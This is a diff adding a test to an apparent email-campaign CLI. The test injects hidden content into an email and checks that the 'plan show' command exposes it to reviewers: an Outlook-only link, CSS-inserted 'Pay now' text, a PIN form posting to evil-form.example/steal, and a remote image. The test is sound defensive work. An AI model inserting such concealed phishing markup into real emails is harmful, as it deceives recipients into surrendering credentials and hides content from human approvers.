@@ -123,6 +123,26 @@ describe('the page of svc plan', () => {
   });
 });
 
+// Second attack H3: the page that people approve. test/cli/commands/campaign/html-words.test.ts has all ways to hide a text.
+it('svc plan show has texts and addresses that only some mail programs show', async () => {
+  await edit('content/spring.html', (text) =>
+    text.replace(
+      '</body>',
+      '<!--[if mso]><a href="https://evil-mso.example/">Call us</a><![endif]--><style>p::after{content:"Pay now"}</style>' +
+        '<form action="https://evil-form.example/steal"><input value="Your PIN"></form><img src="https://evil-img.example/1" alt=""></body>',
+    ),
+  );
+  expect((await svc('plan spring.yaml --out spring.plan')).exitCode).toBe(0);
+  const { stdout } = await svc('plan show spring.plan');
+  for (const line of [
+    '      only in Outlook ("mso"):\n        "Call us <https://evil-mso.example/>"\n      value: "Your PIN"\n',
+    '    styles add text: "Pay now"\n',
+    '    link to "https://evil-mso.example/", only in Outlook ("mso")\n',
+    '    form sends to "https://evil-form.example/steal"\n    images:\n      "https://evil-img.example/1"\n',
+  ])
+    expect(stdout).toContain(line);
+});
+
 describe('svc plan --format markdown', () => {
   it('is a table of the steps, and shows names and other texts as text, not as markup', async () => {
     await edit('spring.yaml', (text) =>
